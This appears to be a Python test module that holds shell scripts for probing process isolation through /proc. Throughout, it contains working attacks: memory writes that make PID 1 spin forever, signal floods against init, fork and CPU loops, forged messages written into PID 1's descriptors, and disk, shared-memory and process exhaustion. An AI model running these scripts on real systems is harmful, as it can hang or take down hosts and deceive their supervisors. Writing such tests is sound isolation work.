"""Attacks where there is no Python: through /proc, which hands a process's memory and descriptors out as files."""

_LIBRARY = r"""
reads() { head -c 1 "/proc/$2/$1" >/dev/null 2>&1; }
memory() { : <>"/proc/$1/mem"; }
descriptors() { : >"/proc/$1/fd/1"; }
folder() { ls "/proc/$1/root/" >/dev/null; }
try() { if ( "$@" ) 2>/dev/null; then echo done; else echo refused; fi; }
# Where a process waits in a system call, it goes on here: from now on it would turn on the spot.
spin() {
    case $(uname -m) in x86_64) code='\353\376' ;; aarch64) code='\000\000\000\024' ;; *) return 1 ;; esac
    set -- "$1" $(cat "/proc/$1/syscall") || return 1
    while [ $# -gt 2 ]; do shift; done
    [ $# -eq 2 ] || return 1
    printf "$code" | dd of="/proc/$VICTIM/mem" bs=1 seek=$(($2)) conv=notrunc 2>/dev/null
}
attempt() { echo "$1: $(try $2 $OWN), $(try $2 1)"; }
environment() { reads environ "$1"; }
maps() { reads maps "$1"; }
sleep 600 >/dev/null 2>&1 & OWN=$!
sleep 0.2
attempt memory memory
attempt descriptors descriptors
attempt root folder
attempt environment environment
attempt 'memory map' maps
kill -9 $OWN
"""

SHELL_REACH = _LIBRARY
"""As `REACH`."""

SHELL_SIEGE = (
    _LIBRARY
    + r"""
trap '' TERM INT HUP QUIT USR1 USR2 PIPE ALRM
sleep 1 >/dev/null 2>&1 & VICTIM=$!
sleep 0.3
spin $VICTIM
sleep 1.5
case $(cat /proc/$VICTIM/stat 2>/dev/null) in *') R '*) echo 'kept from ending: done' ;; *) echo 'kept from ending: refused' ;; esac
kill -9 $VICTIM
VICTIM=1
( spin 1 ) 2>/dev/null
( while :; do for n in TERM INT HUP QUIT USR1 USR2 ALRM CHLD STOP KILL; do kill -$n 1; done; done ) 2>/dev/null &
( while :; do ( : ); done ) &
( while :; do echo xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx; done ) &
for i in 1 2 3 4; do ( while :; do :; done ) & done
echo ready
while :; do ( spin 1 ) 2>/dev/null; sleep 0.1; done
"""
)
"""As `SIEGE`; it makes the first process turn on the spot for ever where that lets its memory be written."""

SHELL_RESIST = r"""
trap '' TERM INT HUP QUIT PIPE
B='i=0; while :; do i=$((i+1)); echo $i >"$0"; sleep 0.1; done'
sh -c "$B" beat-plain &
setsid sh -c "$B" beat-session &
( setsid sh -c "$B" beat-daemon & ) &
( while :; do kill -STOP 1; kill -TERM 1; kill -CONT -1; done ) 2>/dev/null &
echo ready
while :; do sleep 1; done
"""
"""As `RESIST`, with the first three of its parts."""

SHELL_FORGE = r"""
lie='\001\000\000\000\000\000\000\006forged\000\000\000\005\000\000\000\001\046\000\000\000\000\000'
sleep 600 >own-output 2>&1 & own=$!
sleep 0.2
printf "$lie" >/proc/$own/fd/1
control=0 reached=0
case $(cat own-output) in *forged*) control=1 ;; esac
kill -9 $own
for fd in 0 1 2 3 4 5 6 7 8 9; do
    ( printf "$lie" >/proc/1/fd/$fd ) 2>/dev/null & writer=$!
    ( sleep 1; kill -9 $writer ) >/dev/null 2>&1 &
    wait $writer 2>/dev/null && reached=$((reached+1))
done
echo "$control of its own, $reached of others, 0 inherited" >&2
i=0
while [ $i -lt 66 ]; do printf "$lie"; i=$((i+1)); done
exit 7
"""
"""As `FORGE`."""

SHELL_EXHAUST = r"""
say() { echo "$1: $2, $3"; }
i=0
while [ $i -lt 32 ] && dd if=/dev/zero of=/tmp/full-$i bs=1048576 count=1 2>/dev/null; do i=$((i+1)); done
say disk $i enough
i=0
while [ $i -lt 64 ] && dd if=/dev/zero of=/dev/shm/full-$i bs=1048576 count=1 2>/dev/null; do i=$((i+1)); done
say 'shared memory' $i 'all there was'
# A shell that can't fork ends; its trap keeps the place that it held.
trap 'say processes $i "all there were"; echo ready; exec sleep 600' EXIT
i=0
while [ $i -lt 300 ]; do sleep 600 & i=$((i+1)); done 2>/dev/null
"""
"""As `EXHAUST`, with three of its things."""
